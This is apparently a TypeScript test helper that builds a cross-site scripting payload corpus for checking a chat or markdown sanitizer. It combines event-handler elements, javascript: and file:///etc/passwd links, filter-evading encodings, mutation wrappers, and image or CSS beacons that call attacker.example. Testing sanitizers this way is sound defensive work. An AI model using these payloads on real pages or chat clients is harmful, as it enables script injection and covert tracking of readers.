import { existsSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** What every payload tries to run; a page that watches for it defines it. */
const CODE = 'attack()';
/** Where payloads that cannot run code try to tell that they were shown. */
const BEACON = '//attacker.example/seen';

/** Elements that run something by themselves, or when they are touched. */
const ELEMENTS = [
  ['img', 'src=x', 'onerror'], ['svg', '', 'onload'], ['video', 'src=x', 'onerror'], ['body', '', 'onpageshow'],
  ['details', 'open', 'ontoggle'], ['input', 'autofocus', 'onfocus'], ['iframe', 'src=about:blank', 'onload'],
  ['style', '', 'onload'], ['marquee', '', 'onstart'], ['a', 'href=# tabindex=1', 'onmouseover'],
  ['svg><animate', 'attributeName=x dur=1s', 'onbegin'], ['amigo-chat', 'open', 'onamigo-ready'],
] as const; // prettier-ignore

const SCHEMES = [
  `javascript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `vbscript:${CODE}`,
  `blob:https://x/${CODE}`,
  `file:///etc/passwd`,
  `view-source:javascript:${CODE}`,
];

type Change = (text: string) => string;

const each = (text: string, change: (character: string) => string): string => [...text].map(change).join('');
const code = (character: string): number => character.codePointAt(0)!;

/** Ways to write the same thing that a filter may not see through and a browser does. */
const ENCODINGS: Readonly<Record<string, Change>> = {
  plain: (text) => text,
  'mixed case': (text) => each(text, (it) => (code(it) % 2 ? it.toUpperCase() : it.toLowerCase())),
  'decimal entities': (text) => each(text, (it) => `&#${code(it)};`),
  'hexadecimal entities': (text) => each(text, (it) => `&#x${code(it).toString(16)}`),
  'percent escapes': (text) => each(text, (it) => `%${code(it).toString(16).padStart(2, '0')}`),
  'script escapes': (text) => each(text, (it) => `\\u${code(it).toString(16).padStart(4, '0')}`),
  'a tab in the middle': (text) => `${text.slice(0, 4)}\t${text.slice(4)}`,
  'a zero byte in the middle': (text) => `${text.slice(0, 4)}\0${text.slice(4)}`,
  'full width': (text) =>
    each(text, (it) => (code(it) > 32 && code(it) < 127 ? String.fromCharCode(code(it) + 0xfee0) : it)),
  'hidden characters': (text) => `\u202e\u200b${text}\ufeff`,
};

/** Places in which a harmless parse of a payload turns into a harmful one when it is parsed again. */
const MUTATIONS: readonly Change[] = [
  (it) => `"><${it}`.replace('<<', '<'),
  (it) => `'"\`</title></textarea></style></script>--!>${it}`,
  (it) => `<!--><${it}-->`.replace('<<', '<'),
  (it) => `<noscript><p title="</noscript>${it}">`,
  (it) => `<math><mtext><table><mglyph><style><!--</style>${it}`,
  (it) => `<svg><foreignObject><![CDATA[</svg>${it}]]>`,
  (it) => `<form id=attributes><input name=nodeName>${it}`,
  (it) => `<template><slot name=composer>${it}</slot></template>`,
  (it) => `\${${it}}{{${it}}}<?lit$0$?>${it}`,
  (it) => `\`\`\`"${it}\n${it}\n\`\`\``,
  (it) => `|${it}|\n|-|\n|${it}|`,
  (it) => `- > # **${it}**`,
];

/** Markdown that makes a link, an image or a reference of an address. */
const LINKS: readonly Change[] = [
  (it) => `[a](${it})`,
  (it) => `[a](<${it}>)`,
  (it) => `![a](${it})`,
  (it) => `<${it}>`,
  (it) => `[a][b]\n\n[b]: ${it}`,
  (it) => `[a](https://x.y/ "\\"><a href='${it}'>")`,
  (it) => `[![a](${it})](${it})`,
];

function elements(): string[] {
  const simple = ELEMENTS.map(([tag, attributes, handler]) => `<${tag} ${attributes} ${handler}=${CODE}>`);
  const encoded = ELEMENTS.flatMap(([tag, attributes, handler]) =>
    Object.values(ENCODINGS).map((encode) => `<${tag} ${attributes} ${handler}="${encode(CODE)}">`),
  );
  const mutated = simple.flatMap((element) => MUTATIONS.map((mutate) => mutate(element)));
  return [...encoded, ...mutated];
}

function links(): string[] {
  const addresses = SCHEMES.flatMap((address) => Object.values(ENCODINGS).map((encode) => encode(address)));
  const everyShape = SCHEMES.flatMap((address) => LINKS.map((link) => link(address)));
  return [...addresses.map((address) => `[a](${address})`), ...everyShape];
}

/** Nothing runs, but somebody else would learn that the message was read. */
const beacons = [
  `![](https:${BEACON})`, `![](<http:${BEACON}> "t")`, `[![](https:${BEACON})](https://x.y)`, `<img src="${BEACON}">`,
  `<link rel=stylesheet href="${BEACON}">`, `<style>@import "${BEACON}"</style>`, `<meta http-equiv=refresh content="0;url=${BEACON}">`,
  `<base href="${BEACON}">`, `<div style="background:url(${BEACON})">`, `<object data="${BEACON}">`, `<video poster="${BEACON}">`,
  `<a href="${BEACON}" ping="${BEACON}">a</a>`, `<iframe src="${BEACON}">`, `<form action="${BEACON}"><button autofocus>`,
]; // prettier-ignore

/** Our own corpus: elements × encodings × mutations, addresses × encodings × shapes, beacons. No two alike. */
export const ownPayloads: readonly string[] = [...new Set([...elements(), ...links(), ...beacons])];

const FILE = 'shared/xss-payloads.json';

/** Every folder above this one, the nearest first. */
function* above(folder: string): Generator<string> {
  for (let at = folder; ; at = dirname(at)) {
    yield at;
    if (dirname(at) === at) return;
  }
}

/** Where payloads that others published are: named by `XSS_PAYLOADS`, else beside the repository or farther up. */
const published =
  process.env['XSS_PAYLOADS'] ??
  [...above(import.meta.dirname)].map((folder) => join(folder, FILE)).find((file) => existsSync(file));

/** Payloads that others published, where a copy of them lies on this machine; else none. */
export const publishedPayloads: readonly string[] =
  published === undefined ? [] : (JSON.parse(readFileSync(published, 'utf8')) as string[]);

/** Why there are none. */
export const withoutPublished = `no ${FILE} above ${import.meta.dirname}, and XSS_PAYLOADS names none`;
